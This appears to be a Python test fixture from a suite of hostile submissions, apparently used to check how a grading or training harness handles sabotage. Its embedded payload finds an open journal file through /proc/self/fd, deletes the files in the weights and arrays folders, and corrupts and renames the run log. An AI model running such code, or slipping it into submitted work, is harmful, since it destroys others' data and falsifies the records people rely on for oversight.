"""What is missing was not shown: the attack costs its author what he had earned."""

from pathlib import Path

from tests.hostile.small import hand_in

REMOVED = """
import glob, os

folders = {os.path.dirname(os.path.realpath(f"/proc/self/fd/{name}")) for name in os.listdir("/proc/self/fd") if "journal" in os.path.realpath(f"/proc/self/fd/{name}")}
for folder in folders:
    open(f"{folder}/journal.jsonl", "w").write('{"kind": "note"')
    for path in glob.glob(f"{folder}/weights/*") + glob.glob(f"{folder}/arrays/*"):
        os.remove(path)
    os.rename(f"{folder}/journal.jsonl", f"{folder}/journal-7.jsonl")
    open(f"{folder}/journal.jsonl", "w").write("[" * 5000 + "\\n" + '{"kind": "epoch", "kind": "fit"}' + "\\n")
print("removed", len(folders))
figure, axes"""


def make(folder: Path) -> Path:
    return hand_in(folder, ("figure, axes", REMOVED))
